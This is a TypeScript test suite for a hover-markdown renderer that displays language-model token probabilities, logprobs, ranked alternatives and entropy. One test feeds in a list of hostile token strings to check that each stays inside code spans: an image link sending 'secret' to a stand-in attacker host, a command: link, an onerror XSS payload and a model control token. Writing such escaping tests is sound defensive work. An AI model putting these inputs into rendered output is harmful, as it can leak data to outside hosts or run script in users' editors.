import * as assert from 'node:assert/strict';
import { codeSpan, hoverMarkdown, rankAlternatives, summarize } from '../../src/core/hoverMarkdown';
import { formatPercent, visibleToken } from '../../src/core/format';
import type { StoredToken } from '../../src/core/tokenStore';

const token = (text: string, logprob: number | undefined, alternatives: StoredToken['alternatives'] = []): StoredToken =>
  ({ token: text, logprob, alternatives });

/** Markdown outside code spans: what a renderer would interpret. */
function outsideCodeSpans(markdown: string): string {
  return markdown.replace(/(`+)(?:(?!\1)[\s\S])*?\1/g, '');
}

describe('hover markdown', () => {
  it('shows probability, logprob, rank, the alternatives table, coverage and entropy', () => {
    const markdown = hoverMarkdown([token(' Paris', Math.log(0.9), [
      { token: ' Lyon', logprob: Math.log(0.04) }, { token: ' Paris', logprob: Math.log(0.9) }, { token: ' Nice', logprob: Math.log(0.01) },
    ])]);
    assert.match(markdown, /^`␣Paris` · \*\*90\.00 %\*\* · logprob -0\.1054 · rank 1 of 3/);
    const rows = markdown.split('\n').filter((line) => line.startsWith('| ') && line.includes('`'));
    assert.equal(rows.length, 3);
    assert.match(rows[0]!, /^\| ▶ \| `␣Paris` \| 90\.00 % \| -0\.1054 \| █████████░ \|$/);
    assert.match(rows[1]!, /^\|  \| `␣Lyon` \| 4\.00 % \|/);
    assert.match(markdown, /Top 3 cover 95\.00 % of the probability · entropy over the top 3 \(renormalised\): 0\.\d\d bits/);
  });

  it('says when the chosen token is not among the alternatives, or none came back', () => {
    assert.match(hoverMarkdown([token(' goal', -10.03, [{ token: ',', logprob: -3.7 }])]), /not among the top 1/);
    assert.match(hoverMarkdown([token('Foo', -0.0025)]), /no alternatives returned/);
    assert.match(hoverMarkdown([token('x', undefined)]), /returned no logprob/);
  });

  it('lists each member of a character split over several tokens', () => {
    const markdown = hoverMarkdown([token('\\xf0\\x9f\\x92', -0.09), token('\\x99', 0)]);
    assert.match(markdown, /One character from 2 tokens/);
    assert.match(markdown, /Token 1 of 2: `\\xf0\\x9f\\x92`/);
    assert.match(markdown, /Token 2 of 2: `\\x99`/);
  });

  const hostile = [
    '[x](command:workbench.action.terminal.new)',
    '![](https://attacker.example/?q=secret)',
    '<img src=x onerror=alert(1)>',
    '$(alert)',
    '`', '``', 'a```b', '`code`',
    '|', 'a|b',
    '&lt;',
    '<|endoftext|>',
    '▁the',
    '**bold**',
  ];
  for (const text of hostile) {
    it(`renders the hostile token ${JSON.stringify(text)} only inside code spans`, () => {
      const markdown = hoverMarkdown([token(text, -1, [{ token: text, logprob: -1 }, { token: 'safe', logprob: -2 }])]);
      const outside = outsideCodeSpans(markdown);
      for (const dangerous of ['](', '<img', '$(', 'command:', 'https:', '&lt;', '**bold']) {
        assert.ok(!outside.includes(dangerous), `${dangerous} escaped the code span in:\n${markdown}`);
      }
      // Table rows keep their five cells: no unescaped "|" leaked out of a cell.
      for (const row of markdown.split('\n').filter((line) => line.startsWith('| ') && line.includes('`'))) {
        assert.equal(row.replace(/\\\|/g, '').split('|').length, 7, row);
      }
    });
  }

  it('makes empty and whitespace-only tokens visible', () => {
    assert.match(hoverMarkdown([token('', -1)]), /^_\(empty\)_/);
    assert.match(hoverMarkdown([token('  \n', -1)]), /^`␣␣↵`/);
    assert.equal(visibleToken('\t\r\u200b\u202e'), '⇥␍⟨U+200B⟩⟨U+202E⟩');
  });
});

describe('code spans', () => {
  it('uses a fence longer than any backtick run and pads tokens that start or end with one', () => {
    assert.equal(codeSpan('a``b', false), '```a``b```');
    assert.equal(codeSpan('`', false), '`` ` ``');
    assert.equal(codeSpan('a|b', true), '`a\\|b`');
    assert.equal(codeSpan('a|b', false), '`a|b`');
  });
});

describe('alternatives and numbers', () => {
  it('ranks by logprob and drops duplicate strings', () => {
    const ranked = rankAlternatives([{ token: 'b', logprob: -2 }, { token: 'a', logprob: -1 }, { token: 'b', logprob: -3 }]);
    assert.deepEqual(ranked.map((alternative) => alternative.token), ['a', 'b']);
  });

  it('computes coverage and a renormalised entropy in bits', () => {
    const { coverage, entropyBits } = summarize([{ token: 'a', logprob: Math.log(0.25) }, { token: 'b', logprob: Math.log(0.25) }]);
    assert.ok(Math.abs(coverage - 0.5) < 1e-12);
    assert.ok(Math.abs(entropyBits - 1) < 1e-12, 'two equal alternatives: one bit');
  });

  it('formats percentages at every scale without exceeding 100', () => {
    assert.equal(formatPercent(1), '100.00 %');
    assert.equal(formatPercent(0.99999), '>99.99 %');
    assert.equal(formatPercent(0.0000042), '0.0004 %');
    assert.equal(formatPercent(Math.exp(-9999)), '0 %');
    assert.equal(formatPercent(undefined), 'n/a');
  });
});
